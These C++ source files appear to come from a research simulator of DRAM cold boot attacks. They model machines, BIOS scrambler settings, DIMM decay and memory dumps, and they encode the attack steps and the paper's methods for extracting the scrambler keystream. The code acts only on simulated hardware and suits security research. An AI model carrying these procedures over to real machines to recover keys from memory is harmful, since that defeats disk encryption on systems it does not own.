#include "platform/coldboot.hh"

#include <vector>

#include "common/logging.hh"

namespace coldboot::platform
{

ColdBootResult
coldBootTransfer(Machine &victim, Machine &attacker, unsigned channel,
                 const ColdBootParams &params)
{
    if (!victim.isOn())
        cb_fatal("coldBootTransfer: victim must be powered on");
    if (attacker.isOn())
        cb_fatal("coldBootTransfer: attacker must be off");
    if (victim.model().generation != attacker.model().generation)
        cb_warn("coldBootTransfer: cross-generation transfer; the "
                "address map will not match (attack model violation)");

    dram::DramModule *socketed = victim.controller().dimm(channel);
    if (!socketed)
        cb_fatal("coldBootTransfer: victim channel %u empty", channel);

    // 1. Spray the DIMM in the running machine.
    if (params.cool_first)
        socketed->coolTo(params.cooled_celsius);
    else
        socketed->coolTo(params.ambient_celsius);

    // 2. Cut power and pull the module.
    victim.shutdown();
    auto dimm = victim.removeDimm(channel);

    // 3. Carry it to the attacker's machine.
    ColdBootResult result;
    result.bits_flipped = dimm->elapse(params.transfer_seconds);

    // 4./5. Socket, boot, dump.
    attacker.installDimm(channel, dimm);
    attacker.boot();
    result.dump = attacker.dumpMemory();
    return result;
}

ColdBootResult
coldBootTransferAll(Machine &victim, Machine &attacker,
                    const ColdBootParams &params)
{
    if (!victim.isOn())
        cb_fatal("coldBootTransferAll: victim must be powered on");
    if (attacker.isOn())
        cb_fatal("coldBootTransferAll: attacker must be off");
    if (victim.model().generation != attacker.model().generation)
        cb_warn("coldBootTransferAll: cross-generation transfer; the "
                "address map will not match");

    unsigned channels =
        victim.controller().addressMap().channels();
    if (attacker.controller().addressMap().channels() != channels)
        cb_fatal("coldBootTransferAll: channel count mismatch");

    // Spray every DIMM, then cut power and pull them all.
    for (unsigned c = 0; c < channels; ++c) {
        dram::DramModule *socketed = victim.controller().dimm(c);
        if (!socketed)
            cb_fatal("coldBootTransferAll: victim channel %u empty",
                     c);
        socketed->coolTo(params.cool_first ? params.cooled_celsius
                                           : params.ambient_celsius);
    }
    victim.shutdown();

    ColdBootResult result;
    for (unsigned c = 0; c < channels; ++c) {
        auto dimm = victim.removeDimm(c);
        result.bits_flipped += dimm->elapse(params.transfer_seconds);
        attacker.installDimm(c, dimm);
    }
    attacker.boot();
    result.dump = attacker.dumpMemory();
    return result;
}

namespace
{

/** A scrambler-off donor machine of the same generation. */
Machine
makeDonor(const Machine &like, uint64_t entropy_seed)
{
    BiosConfig donor_bios;
    donor_bios.scrambler_enabled = false;
    donor_bios.reset_seed_each_boot = true;
    donor_bios.boot_pollution_bytes = 0;
    return Machine(like.model(), donor_bios, 1, entropy_seed);
}

} // anonymous namespace

MemoryImage
reverseColdBootExtractKeystream(Machine &analyzed, unsigned channel)
{
    if (analyzed.isOn())
        cb_fatal("reverseColdBootExtractKeystream: analyzed machine "
                 "must be off");

    auto dimm = analyzed.removeDimm(channel);
    if (!dimm)
        cb_fatal("reverseColdBootExtractKeystream: channel %u empty",
                 channel);

    // Fill the module with unscrambled zeros on the donor.
    Machine donor = makeDonor(analyzed, 0x60D0);
    donor.installDimm(0, dimm);
    donor.boot();
    std::vector<uint8_t> zeros(dimm->size(), 0);
    donor.writePhys(0, zeros);
    donor.shutdown();
    dimm = donor.removeDimm(0);

    // Boot the analyzed machine; reading zeros through its
    // descrambler yields the keystream.
    analyzed.installDimm(channel, dimm);
    analyzed.boot();
    return analyzed.dumpMemory();
}

MemoryImage
groundStateExtractKeystream(Machine &analyzed, unsigned channel)
{
    if (analyzed.isOn())
        cb_fatal("groundStateExtractKeystream: analyzed machine "
                 "must be off");

    auto dimm = analyzed.removeDimm(channel);
    if (!dimm)
        cb_fatal("groundStateExtractKeystream: channel %u empty",
                 channel);

    // Let the module decay fully, then profile the ground state with
    // the scrambler off.
    dimm->decayToGround();
    Machine donor = makeDonor(analyzed, 0x6607);
    donor.installDimm(0, dimm);
    donor.boot();
    MemoryImage ground = donor.dumpMemory();
    donor.shutdown();
    dimm = donor.removeDimm(0);
    // Profiling must not disturb the decayed contents; re-assert the
    // ground state in case firmware pollution was configured.
    dimm->decayToGround();

    // Read the decayed (known) pattern through the scrambler.
    analyzed.installDimm(channel, dimm);
    analyzed.boot();
    MemoryImage through = analyzed.dumpMemory();

    // keystream = observed XOR known ground state.
    MemoryImage keystream(through.size());
    auto ks = keystream.bytesMutable();
    auto a = through.bytes();
    auto b = ground.bytes();
    for (size_t i = 0; i < ks.size(); ++i)
        ks[i] = static_cast<uint8_t>(a[i] ^ b[i]);
    return keystream;
}

} // namespace coldboot::platform
