#include "platform/workload.hh"

#include <algorithm>
#include <vector>

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::platform
{

namespace
{

enum class PageType { Zero, Text, Heap, Random };

PageType
choosePageType(const WorkloadParams &params, Xoshiro256StarStar &rng)
{
    double r = rng.nextDouble();
    if ((r -= params.text_fraction) < 0)
        return PageType::Text;
    if ((r -= params.heap_fraction) < 0)
        return PageType::Heap;
    if ((r -= params.random_fraction) < 0)
        return PageType::Random;
    return PageType::Zero;
}

/** Code-like bytes: a skewed opcode histogram with short repeats. */
void
fillText(Xoshiro256StarStar &rng, std::span<uint8_t> out)
{
    // Common x86-ish bytes dominate; occasional literal runs.
    static const uint8_t common[] = {
        0x00, 0x48, 0x89, 0x8b, 0xff, 0xe8, 0x0f, 0xc3,
        0x55, 0x5d, 0x83, 0x45, 0x24, 0x84, 0x74, 0x75,
    };
    size_t i = 0;
    while (i < out.size()) {
        if (rng.chance(0.1)) {
            // Repeat a recent motif (loops, padding).
            size_t run = 4 + rng.nextBelow(12);
            uint8_t b = rng.chance(0.5) ? 0x00 : 0x90;
            for (size_t k = 0; k < run && i < out.size(); ++k)
                out[i++] = b;
        } else if (rng.chance(0.7)) {
            out[i++] = common[rng.nextBelow(std::size(common))];
        } else {
            out[i++] = static_cast<uint8_t>(rng.next());
        }
    }
}

/** Heap-like bytes: pointers with shared high bits, ints, zeros. */
void
fillHeap(Xoshiro256StarStar &rng, std::span<uint8_t> out)
{
    uint64_t heap_base = 0x00007f0000000000ULL +
                         (rng.nextBelow(1024) << 24);
    size_t i = 0;
    while (i + 8 <= out.size()) {
        double r = rng.nextDouble();
        uint64_t v;
        if (r < 0.35) {
            v = 0; // null pointers / unallocated slack
        } else if (r < 0.60) {
            v = heap_base + (rng.nextBelow(1 << 20) << 4);
        } else if (r < 0.85) {
            v = rng.nextBelow(4096); // small integers
        } else {
            v = rng.next(); // packed data
        }
        storeLE64(&out[i], v);
        i += 8;
    }
    while (i < out.size())
        out[i++] = 0;
}

} // anonymous namespace

void
generatePage(const WorkloadParams &params, uint64_t seed,
             uint64_t page_index, std::span<uint8_t> out)
{
    cb_assert(out.size() == params.page_bytes,
              "generatePage: output size %zu != page size %llu",
              out.size(),
              static_cast<unsigned long long>(params.page_bytes));
    Xoshiro256StarStar rng(seed * 0x9e3779b97f4a7c15ULL + page_index);
    switch (choosePageType(params, rng)) {
      case PageType::Zero:
        std::fill(out.begin(), out.end(), 0);
        break;
      case PageType::Text:
        fillText(rng, out);
        break;
      case PageType::Heap:
        fillHeap(rng, out);
        break;
      case PageType::Random:
        rng.fillBytes(out);
        break;
    }
}

void
fillWorkload(Machine &machine, const WorkloadParams &params,
             uint64_t seed, uint64_t start_addr, uint64_t bytes)
{
    if (!machine.isOn())
        cb_fatal("fillWorkload: machine is off");
    if (bytes == 0)
        bytes = machine.capacity() - start_addr;
    cb_assert(start_addr % 64 == 0, "fillWorkload: unaligned start");
    cb_assert(start_addr + bytes <= machine.capacity(),
              "fillWorkload: range exceeds memory");

    std::vector<uint8_t> page(params.page_bytes);
    uint64_t addr = start_addr;
    uint64_t page_index = start_addr / params.page_bytes;
    while (addr < start_addr + bytes) {
        uint64_t chunk = std::min<uint64_t>(params.page_bytes,
                                            start_addr + bytes - addr);
        generatePage(params, seed, page_index, page);
        machine.writePhys(addr, {page.data(), chunk});
        addr += chunk;
        ++page_index;
    }
}

double
zeroLineFraction(const WorkloadParams &params, uint64_t seed,
                 unsigned pages)
{
    std::vector<uint8_t> page(params.page_bytes);
    uint64_t zero_lines = 0, total_lines = 0;
    for (unsigned p = 0; p < pages; ++p) {
        generatePage(params, seed, p, page);
        for (size_t off = 0; off + 64 <= page.size(); off += 64) {
            ++total_lines;
            bool zero = true;
            for (size_t i = 0; i < 64; ++i)
                zero = zero && (page[off + i] == 0);
            zero_lines += zero;
        }
    }
    return static_cast<double>(zero_lines) /
           static_cast<double>(total_lines);
}

} // namespace coldboot::platform
