/**
 * @file
 * A complete simulated computer: CPU (with its integrated memory
 * controller and scrambler), BIOS, DIMM slots, and power state.
 *
 * This is the stage on which the attack plays out. The victim machine
 * runs a workload and mounts an encrypted volume; the attacker's
 * machine (same CPU generation, per the attack model) receives the
 * frozen DIMM and dumps it.
 */

#ifndef COLDBOOT_PLATFORM_MACHINE_HH
#define COLDBOOT_PLATFORM_MACHINE_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "common/rng.hh"
#include "memctrl/memory_controller.hh"
#include "platform/memory_image.hh"

namespace coldboot::platform
{

/** One CPU model from the paper's Table I. */
struct CpuModel
{
    std::string name;
    memctrl::CpuGeneration generation;
    std::string launch;
};

/** The five CPU models analyzed in the paper (Table I). */
const std::vector<CpuModel> &cpuModelTable();

/** Look up a Table I model by name; fatal() if unknown. */
const CpuModel &cpuModelByName(const std::string &name);

/**
 * BIOS policy knobs relevant to the attack surface.
 */
struct BiosConfig
{
    /** Scrambler on/off (the analysis-motherboard toggle). */
    bool scrambler_enabled = true;
    /**
     * Whether the BIOS draws a fresh scrambler seed every boot.
     * The paper observed vendors that do NOT, reusing the same key
     * set across boots - a further weakness.
     */
    bool reset_seed_each_boot = true;
    /** Bytes of low memory the firmware/dumper clobbers at boot. */
    uint64_t boot_pollution_bytes = 256 * 1024;
};

/**
 * A machine with sockets, BIOS and power state.
 */
class Machine
{
  public:
    /**
     * @param model        CPU model (Table I).
     * @param bios         BIOS policy configuration.
     * @param channels     Memory channels to drive (1 or 2).
     * @param entropy_seed Seed of the machine's boot-time entropy
     *                     source (scrambler seeds derive from it).
     */
    Machine(const CpuModel &model, const BiosConfig &bios,
            unsigned channels, uint64_t entropy_seed);

    /** As above, with an explicit scrambler-replacement factory. */
    Machine(const CpuModel &model, const BiosConfig &bios,
            unsigned channels, uint64_t entropy_seed,
            memctrl::ScramblerFactory factory);

    /** Install a DIMM (machine must be off). */
    void installDimm(unsigned channel,
                     std::shared_ptr<dram::DramModule> dimm);

    /**
     * Pull a DIMM out of its socket. Allowed regardless of power
     * state - pulling from a live machine is exactly what the attack
     * does. The module is powered off as it leaves the socket.
     */
    std::shared_ptr<dram::DramModule> removeDimm(unsigned channel);

    /**
     * Power on and run the BIOS: a scrambler seed is drawn per the
     * seed policy, the scrambler is enabled/disabled per BIOS config,
     * DIMMs get power, and the firmware clobbers its low-memory
     * footprint. Pre-existing DIMM contents otherwise survive.
     */
    void boot();

    /** Orderly power-off (DIMMs lose refresh). */
    void shutdown();

    /** shutdown() followed by boot(). */
    void reboot();

    /** Whether the machine is currently powered. */
    bool isOn() const { return powered; }

    /** CPU model descriptor. */
    const CpuModel &model() const { return cpu; }

    /** BIOS configuration (mutable: the analyst flips the toggle). */
    BiosConfig &bios() { return bios_cfg; }

    /** The integrated memory controller. */
    memctrl::MemoryController &controller() { return *mc; }
    const memctrl::MemoryController &controller() const { return *mc; }

    /** Total physical memory. */
    uint64_t capacity() const { return mc->capacity(); }

    /** Software (CPU-side, descrambled) physical write. */
    void writePhys(uint64_t phys_addr, std::span<const uint8_t> data);

    /** Software (CPU-side, descrambled) physical read. */
    void readPhys(uint64_t phys_addr, std::span<uint8_t> out) const;

    /**
     * Byte-granular physical write at any alignment (the controller
     * performs read-modify-write on partial lines, as a real CPU's
     * cache hierarchy effectively does).
     */
    void writePhysBytes(uint64_t phys_addr,
                        std::span<const uint8_t> data);

    /** Byte-granular physical read at any alignment. */
    void readPhysBytes(uint64_t phys_addr,
                       std::span<uint8_t> out) const;

    /**
     * The bare-metal GRUB-module dump: read all of physical memory
     * through the memory controller (descrambler applies if enabled)
     * into an image.
     */
    MemoryImage dumpMemory() const;

    /** The scrambler seed currently in effect (test inspection). */
    uint64_t currentSeed() const { return current_seed; }

    /** Number of completed boots. */
    unsigned bootCount() const { return boots; }

  private:
    void applyBiosAtBoot();

    CpuModel cpu;
    BiosConfig bios_cfg;
    std::unique_ptr<memctrl::MemoryController> mc;
    Xoshiro256StarStar entropy;
    uint64_t current_seed;
    bool powered;
    unsigned boots;
};

} // namespace coldboot::platform

#endif // COLDBOOT_PLATFORM_MACHINE_HH
