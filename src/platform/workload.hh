/**
 * @file
 * Synthetic memory workloads.
 *
 * The key-mining attack depends on one statistical fact about real
 * systems: zero-filled 64-byte blocks are plentiful (the same fact
 * that motivates zero-aware memory compression). The generator
 * produces page-granular contents with realistic composition: zero
 * pages, code-like pages, heap-like pages (pointers sharing high
 * bits, small integers), and high-entropy pages (media/compressed
 * data).
 */

#ifndef COLDBOOT_PLATFORM_WORKLOAD_HH
#define COLDBOOT_PLATFORM_WORKLOAD_HH

#include <cstdint>

#include "platform/machine.hh"

namespace coldboot::platform
{

/**
 * Composition of the synthetic workload, as page-type fractions
 * (should sum to about 1; the remainder becomes zero pages).
 */
struct WorkloadParams
{
    /** Fraction of 4 KiB pages that are entirely zero. */
    double zero_fraction = 0.30;
    /** Code-like pages (skewed byte histogram, repetition). */
    double text_fraction = 0.25;
    /** Heap-like pages (pointers, small ints, zero runs). */
    double heap_fraction = 0.30;
    /** High-entropy pages (compressed/media data). */
    double random_fraction = 0.15;
    /** Page size in bytes. */
    uint64_t page_bytes = 4096;
};

/**
 * Fill the machine's physical memory (from @p start_addr up) with a
 * synthetic workload through the CPU side (so it is scrambled on its
 * way to DRAM).
 *
 * @param machine    Powered-on target machine.
 * @param params     Composition parameters.
 * @param seed       Deterministic workload seed.
 * @param start_addr First physical address to fill (line aligned).
 * @param bytes      Bytes to fill (0 = to end of memory).
 */
void fillWorkload(Machine &machine, const WorkloadParams &params,
                  uint64_t seed, uint64_t start_addr = 0,
                  uint64_t bytes = 0);

/**
 * Generate one page of the given composition into @p out (exposed
 * for tests and for building images without a machine).
 */
void generatePage(const WorkloadParams &params, uint64_t seed,
                  uint64_t page_index, std::span<uint8_t> out);

/**
 * Fraction of all-zero 64-byte lines a workload generates, measured
 * over @p pages pages (used to sanity-check the zero-block supply the
 * key miner depends on).
 */
double zeroLineFraction(const WorkloadParams &params, uint64_t seed,
                        unsigned pages);

} // namespace coldboot::platform

#endif // COLDBOOT_PLATFORM_WORKLOAD_HH
