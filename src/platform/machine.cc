#include "platform/machine.hh"

#include <algorithm>

#include "common/logging.hh"

namespace coldboot::platform
{

const std::vector<CpuModel> &
cpuModelTable()
{
    using memctrl::CpuGeneration;
    static const std::vector<CpuModel> table = {
        {"i5-2540M", CpuGeneration::SandyBridge, "Q1 2011"},
        {"i5-2430M", CpuGeneration::SandyBridge, "Q4 2011"},
        {"i7-3540M", CpuGeneration::IvyBridge, "Q1 2013"},
        {"i5-6400", CpuGeneration::Skylake, "Q3 2015"},
        {"i5-6600K", CpuGeneration::Skylake, "Q3 2015"},
    };
    return table;
}

const CpuModel &
cpuModelByName(const std::string &name)
{
    for (const auto &m : cpuModelTable())
        if (m.name == name)
            return m;
    cb_fatal("unknown CPU model '%s'", name.c_str());
}

Machine::Machine(const CpuModel &model, const BiosConfig &bios,
                 unsigned channels, uint64_t entropy_seed)
    : Machine(model, bios, channels, entropy_seed,
              memctrl::defaultScramblerFactory(model.generation))
{
}

Machine::Machine(const CpuModel &model, const BiosConfig &bios,
                 unsigned channels, uint64_t entropy_seed,
                 memctrl::ScramblerFactory factory)
    : cpu(model), bios_cfg(bios), entropy(entropy_seed),
      current_seed(0), powered(false), boots(0)
{
    current_seed = entropy.next();
    mc = std::make_unique<memctrl::MemoryController>(
        model.generation, channels, current_seed, std::move(factory));
}

void
Machine::installDimm(unsigned channel,
                     std::shared_ptr<dram::DramModule> dimm)
{
    if (powered)
        cb_fatal("installDimm: machine is powered on");
    dimm->powerOff();
    mc->attachDimm(channel, std::move(dimm));
}

std::shared_ptr<dram::DramModule>
Machine::removeDimm(unsigned channel)
{
    auto dimm = mc->detachDimm(channel);
    if (dimm)
        dimm->powerOff();
    return dimm;
}

void
Machine::applyBiosAtBoot()
{
    if (bios_cfg.reset_seed_each_boot || boots == 0)
        current_seed = entropy.next();
    mc->reseed(current_seed);
    mc->setScramblingEnabled(bios_cfg.scrambler_enabled);
}

void
Machine::boot()
{
    if (powered)
        cb_fatal("boot: machine already powered");
    powered = true;
    ++boots;
    applyBiosAtBoot();
    for (unsigned c = 0; c < mc->addressMap().channels(); ++c)
        if (mc->dimm(c))
            mc->dimm(c)->powerOn();

    // Firmware / dump-module footprint: clobber low memory through
    // the (possibly scrambling) controller.
    uint64_t pollution =
        std::min<uint64_t>(bios_cfg.boot_pollution_bytes, capacity());
    if (pollution > 0) {
        std::vector<uint8_t> junk(64);
        Xoshiro256StarStar firmware_rng(current_seed ^ 0xB105);
        for (uint64_t addr = 0; addr + 64 <= pollution; addr += 64) {
            firmware_rng.fillBytes(junk);
            mc->writeLine(addr, junk);
        }
    }
}

void
Machine::shutdown()
{
    if (!powered)
        cb_fatal("shutdown: machine already off");
    powered = false;
    for (unsigned c = 0; c < mc->addressMap().channels(); ++c)
        if (mc->dimm(c))
            mc->dimm(c)->powerOff();
}

void
Machine::reboot()
{
    shutdown();
    boot();
}

void
Machine::writePhys(uint64_t phys_addr, std::span<const uint8_t> data)
{
    if (!powered)
        cb_fatal("writePhys: machine is off");
    mc->write(phys_addr, data);
}

void
Machine::readPhys(uint64_t phys_addr, std::span<uint8_t> out) const
{
    if (!powered)
        cb_fatal("readPhys: machine is off");
    mc->read(phys_addr, out);
}

void
Machine::writePhysBytes(uint64_t phys_addr,
                        std::span<const uint8_t> data)
{
    if (!powered)
        cb_fatal("writePhysBytes: machine is off");
    uint8_t lbuf[64];
    size_t done = 0;
    while (done < data.size()) {
        uint64_t addr = phys_addr + done;
        uint64_t line_addr = addr & ~63ULL;
        size_t off = static_cast<size_t>(addr - line_addr);
        size_t n = std::min<size_t>(64 - off, data.size() - done);
        mc->readLine(line_addr, {lbuf, 64});
        std::copy_n(data.data() + done, n, lbuf + off);
        mc->writeLine(line_addr, {lbuf, 64});
        done += n;
    }
}

void
Machine::readPhysBytes(uint64_t phys_addr,
                       std::span<uint8_t> out) const
{
    if (!powered)
        cb_fatal("readPhysBytes: machine is off");
    uint8_t lbuf[64];
    size_t done = 0;
    while (done < out.size()) {
        uint64_t addr = phys_addr + done;
        uint64_t line_addr = addr & ~63ULL;
        size_t off = static_cast<size_t>(addr - line_addr);
        size_t n = std::min<size_t>(64 - off, out.size() - done);
        mc->readLine(line_addr, {lbuf, 64});
        std::copy_n(lbuf + off, n, out.data() + done);
        done += n;
    }
}

MemoryImage
Machine::dumpMemory() const
{
    if (!powered)
        cb_fatal("dumpMemory: machine is off");
    MemoryImage image(capacity());
    mc->read(0, image.bytesMutable());
    return image;
}

} // namespace coldboot::platform
