/**
 * @file
 * A captured physical-memory image (the artifact a cold boot attack
 * analyzes) plus basic statistics used by the visual-comparison
 * experiment.
 */

#ifndef COLDBOOT_PLATFORM_MEMORY_IMAGE_HH
#define COLDBOOT_PLATFORM_MEMORY_IMAGE_HH

#include <cstdint>
#include <span>
#include <string>
#include <vector>

namespace coldboot::platform
{

/**
 * A byte-for-byte dump of physical memory.
 */
class MemoryImage
{
  public:
    /** An empty image of @p bytes size (must be a multiple of 64). */
    explicit MemoryImage(size_t bytes);

    /** Wrap a copy of existing bytes. */
    explicit MemoryImage(std::vector<uint8_t> data);

    /** Image size in bytes. */
    size_t size() const { return data.size(); }

    /** Number of 64-byte lines. */
    size_t lines() const { return data.size() / 64; }

    /** Whole image contents. */
    std::span<const uint8_t> bytes() const
    {
        return {data.data(), data.size()};
    }

    /** Mutable contents. */
    std::span<uint8_t> bytesMutable()
    {
        return {data.data(), data.size()};
    }

    /** The 64-byte line at line index @p line_idx. */
    std::span<const uint8_t> line(size_t line_idx) const;

    /** Mutable 64-byte line. */
    std::span<uint8_t> lineMutable(size_t line_idx);

    /**
     * Count of lines exactly equal between this image and @p other
     * (they must have equal size) - the correlation statistic behind
     * the Figure 3 comparison.
     */
    size_t identicalLines(const MemoryImage &other) const;

    /**
     * Number of (unordered) duplicated line pairs within this image,
     * computed via hashing. High counts mean visible correlations
     * (DDR3-style scrambling); low counts mean good obfuscation.
     */
    size_t duplicateLinePairs() const;

    /** Fraction of bits set in the image. */
    double onesFraction() const;

    /**
     * Save as a binary PGM (P5) grayscale image, one byte per pixel,
     * for the Figure 3 visual renders.
     *
     * @param path   Output file path.
     * @param width  Pixel row width (default 256).
     */
    void savePgm(const std::string &path, size_t width = 256) const;

    /** Save the raw bytes to a file (a forensic dump artifact). */
    void saveRaw(const std::string &path) const;

    /**
     * Load a raw dump file; fatal() if unreadable or not a nonzero
     * multiple of 64 bytes.
     */
    static MemoryImage loadRaw(const std::string &path);

  private:
    std::vector<uint8_t> data;
};

} // namespace coldboot::platform

#endif // COLDBOOT_PLATFORM_MEMORY_IMAGE_HH
