/**
 * @file
 * The cold boot transfer procedure itself: cool the DIMM, pull it
 * from the victim, carry it (decay happens here), socket it into the
 * attacker's machine, and dump.
 *
 * Also provides the paper's "reverse cold boot" analysis procedures
 * (Section III-A): injecting known plaintext into a scrambled system
 * to expose the scrambler keys.
 */

#ifndef COLDBOOT_PLATFORM_COLDBOOT_HH
#define COLDBOOT_PLATFORM_COLDBOOT_HH

#include <cstdint>

#include "platform/machine.hh"

namespace coldboot::platform
{

/**
 * Physical parameters of a cold boot transfer.
 */
struct ColdBootParams
{
    /** Whether the attacker sprays the DIMM before pulling it. */
    bool cool_first = true;
    /** Temperature the spray reaches (paper: about -25 C). */
    double cooled_celsius = -25.0;
    /** Ambient temperature if not cooled. */
    double ambient_celsius = 20.0;
    /** Out-of-socket transfer time in seconds (paper: ~5 s). */
    double transfer_seconds = 5.0;
};

/**
 * Result of a cold boot transfer.
 */
struct ColdBootResult
{
    /** Bits that visibly flipped during the transfer. */
    uint64_t bits_flipped = 0;
    /** The dump taken on the attacker's machine. */
    MemoryImage dump{64};
};

/**
 * Execute a cold boot attack transfer:
 *  1. (optional) cool the victim's DIMM in-socket;
 *  2. cut victim power and pull the DIMM;
 *  3. transfer_seconds elapse at the chosen temperature;
 *  4. socket the DIMM into the attacker machine and boot it;
 *  5. dump all physical memory on the attacker machine.
 *
 * The attacker machine's scrambler state is its own; per the paper,
 * the dump is useful to the key-mining attack whether or not the
 * attacker's scrambler is enabled.
 *
 * @param victim        Victim machine (must be powered on).
 * @param attacker      Attacker machine (must be off, same CPU
 *                      generation, empty target slot).
 * @param channel       Channel/slot to move the DIMM between.
 * @param params        Physical transfer parameters.
 */
ColdBootResult coldBootTransfer(Machine &victim, Machine &attacker,
                                unsigned channel,
                                const ColdBootParams &params = {});

/**
 * Cold-boot transfer of EVERY populated channel: both DIMMs of a
 * dual-channel system move together so the attacker's dump preserves
 * physical-address contiguity across the channel interleave (the
 * same-generation attacker machine reassembles it). A dual-channel
 * dump exposes 8192 candidate scrambler keys instead of 4096.
 */
ColdBootResult coldBootTransferAll(Machine &victim, Machine &attacker,
                                   const ColdBootParams &params = {});

/**
 * The paper's reverse-cold-boot key extraction (Section III-A):
 * fill a DIMM with unscrambled zeros on a scrambler-disabled donor
 * machine, move it to the machine under analysis, boot, and read the
 * memory back through the scrambler - what comes back is the raw
 * scrambler keystream.
 *
 * @param analyzed Machine under analysis (off; slot @p channel
 *                 populated).
 * @param channel  Channel to run the procedure on.
 * @return Image holding the scrambler keystream over all of memory.
 */
MemoryImage reverseColdBootExtractKeystream(Machine &analyzed,
                                            unsigned channel);

/**
 * The ground-state variant of the analysis procedure: let the DIMM
 * decay fully, profile the ground state with the scrambler off, then
 * boot the analyzed machine and read the decayed memory through the
 * scrambler. XOR-ing the two reveals the keystream without any
 * donor-machine writes.
 */
MemoryImage groundStateExtractKeystream(Machine &analyzed,
                                        unsigned channel);

} // namespace coldboot::platform

#endif // COLDBOOT_PLATFORM_COLDBOOT_HH
