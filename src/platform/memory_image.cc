#include "platform/memory_image.hh"

#include <cstdio>
#include <cstring>
#include <unordered_map>

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::platform
{

MemoryImage::MemoryImage(size_t bytes) : data(bytes, 0)
{
    if (bytes == 0 || bytes % 64 != 0)
        cb_fatal("MemoryImage: size %zu not a nonzero multiple of 64",
                 bytes);
}

MemoryImage::MemoryImage(std::vector<uint8_t> d) : data(std::move(d))
{
    if (data.empty() || data.size() % 64 != 0)
        cb_fatal("MemoryImage: size %zu not a nonzero multiple of 64",
                 data.size());
}

std::span<const uint8_t>
MemoryImage::line(size_t line_idx) const
{
    cb_assert(line_idx < lines(), "MemoryImage::line %zu out of range",
              line_idx);
    return {data.data() + 64 * line_idx, 64};
}

std::span<uint8_t>
MemoryImage::lineMutable(size_t line_idx)
{
    cb_assert(line_idx < lines(), "MemoryImage::line %zu out of range",
              line_idx);
    return {data.data() + 64 * line_idx, 64};
}

size_t
MemoryImage::identicalLines(const MemoryImage &other) const
{
    cb_assert(size() == other.size(),
              "identicalLines: size mismatch %zu vs %zu", size(),
              other.size());
    size_t count = 0;
    for (size_t i = 0; i < lines(); ++i) {
        if (std::memcmp(line(i).data(), other.line(i).data(), 64) == 0)
            ++count;
    }
    return count;
}

size_t
MemoryImage::duplicateLinePairs() const
{
    // FNV-1a per line, then count pairs within equal-hash buckets
    // (verifying true equality to be collision-safe).
    std::unordered_map<uint64_t, std::vector<size_t>> buckets;
    for (size_t i = 0; i < lines(); ++i) {
        uint64_t h = 0xcbf29ce484222325ULL;
        for (uint8_t b : line(i)) {
            h ^= b;
            h *= 0x100000001b3ULL;
        }
        buckets[h].push_back(i);
    }
    size_t pairs = 0;
    for (const auto &[hash, idxs] : buckets) {
        if (idxs.size() < 2)
            continue;
        for (size_t a = 0; a < idxs.size(); ++a)
            for (size_t b = a + 1; b < idxs.size(); ++b)
                if (std::memcmp(line(idxs[a]).data(),
                           line(idxs[b]).data(), 64) == 0)
                    ++pairs;
    }
    return pairs;
}

double
MemoryImage::onesFraction() const
{
    size_t ones = hammingWeight({data.data(), data.size()});
    return static_cast<double>(ones) /
           (static_cast<double>(data.size()) * 8.0);
}

void
MemoryImage::savePgm(const std::string &path, size_t width) const
{
    cb_assert(width > 0, "savePgm: zero width");
    size_t height = (data.size() + width - 1) / width;
    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (!f)
        cb_fatal("savePgm: cannot open '%s'", path.c_str());
    std::fprintf(f, "P5\n%zu %zu\n255\n", width, height);
    std::fwrite(data.data(), 1, data.size(), f);
    // Pad the final row.
    size_t padding = width * height - data.size();
    for (size_t i = 0; i < padding; ++i)
        std::fputc(0, f);
    std::fclose(f);
}

void
MemoryImage::saveRaw(const std::string &path) const
{
    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (!f)
        cb_fatal("saveRaw: cannot open '%s'", path.c_str());
    size_t written = std::fwrite(data.data(), 1, data.size(), f);
    std::fclose(f);
    if (written != data.size())
        cb_fatal("saveRaw: short write to '%s'", path.c_str());
}

MemoryImage
MemoryImage::loadRaw(const std::string &path)
{
    std::FILE *f = std::fopen(path.c_str(), "rb");
    if (!f)
        cb_fatal("loadRaw: cannot open '%s'", path.c_str());
    std::fseek(f, 0, SEEK_END);
    long size = std::ftell(f);
    std::fseek(f, 0, SEEK_SET);
    if (size <= 0 || size % 64 != 0) {
        std::fclose(f);
        cb_fatal("loadRaw: '%s' is not a nonzero multiple of 64 "
                 "bytes (%ld)", path.c_str(), size);
    }
    std::vector<uint8_t> bytes(static_cast<size_t>(size));
    size_t got = std::fread(bytes.data(), 1, bytes.size(), f);
    std::fclose(f);
    if (got != bytes.size())
        cb_fatal("loadRaw: short read from '%s'", path.c_str());
    return MemoryImage(std::move(bytes));
}

} // namespace coldboot::platform
