/**
 * @file
 * A removable DRAM module (DIMM) with power and temperature state.
 *
 * This is the physical object a cold boot attack moves between
 * machines: it keeps its contents when unplugged, subject to the
 * charge-decay model, and can be cooled to extend retention.
 */

#ifndef COLDBOOT_DRAM_DRAM_MODULE_HH
#define COLDBOOT_DRAM_DRAM_MODULE_HH

#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <vector>

#include "dram/decay_model.hh"
#include "dram/timing.hh"

namespace coldboot::dram
{

/**
 * Storage media of a module. The paper's motivation notes that
 * emerging non-volatile DIMMs on DDR4 buses make cold boot attacks
 * worse: contents persist indefinitely without refresh or cooling.
 */
enum class Media { VolatileDram, NonVolatileDimm };

/**
 * One removable memory module.
 */
class DramModule
{
  public:
    /**
     * @param generation  DDR3 or DDR4.
     * @param bytes       Capacity in bytes (multiple of 64).
     * @param params      Retention model parameters (per-module
     *                    quality folds in here).
     * @param seed        Seed for this module's physical ground-state
     *                    pattern and decay randomness.
     * @param model_name  Manufacturer/model label for reports.
     */
    DramModule(Generation generation, uint64_t bytes,
               const DecayParams &params, uint64_t seed,
               std::string model_name = "generic",
               Media media = Media::VolatileDram);

    /** Module capacity in bytes. */
    uint64_t size() const { return cells.size(); }

    /** Interface generation. */
    Generation generation() const { return gen; }

    /** Storage media (volatile DRAM or non-volatile DIMM). */
    Media media() const { return media_kind; }

    /** Manufacturer/model label. */
    const std::string &modelName() const { return name; }

    /** Whether the module is currently receiving refresh. */
    bool isPowered() const { return powered; }

    /** Current module temperature in Celsius. */
    double temperature() const { return temp_celsius; }

    /**
     * Read bytes at module-linear address @p addr. Valid regardless
     * of power state (an unpowered read models an attacker probing a
